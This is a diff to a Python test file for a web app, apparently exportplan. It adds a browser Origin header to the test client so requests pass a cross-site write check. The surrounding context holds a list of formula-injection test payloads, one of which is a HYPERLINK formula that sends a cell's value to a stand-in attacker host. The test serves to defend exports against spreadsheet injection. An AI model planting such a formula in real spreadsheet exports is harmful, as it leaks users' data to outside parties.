@@ -31,6 +31,10 @@ from exportplan.web.app import create_app
 from exportplan.workspace import Workspace, open_workspace
 from helpers import wait_for_imports, walk
 
+#: The Origin a browser sends with a form of this site: a write carrying the site's cookies
+#: that names no origin is refused (web/app.py)
+BROWSER = {"Origin": "http://testserver"}
+
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "+1",
@@ -93,7 +97,7 @@ def sign_in(c: TestClient, user: str) -> None:
 
 @pytest.fixture(scope="module")
 def client(hostile: Workspace) -> Iterator[TestClient]:
-    with TestClient(create_app(hostile), follow_redirects=False) as c:
+    with TestClient(create_app(hostile), follow_redirects=False, headers=BROWSER) as c:
         sign_in(c, "admin")
         yield c
 
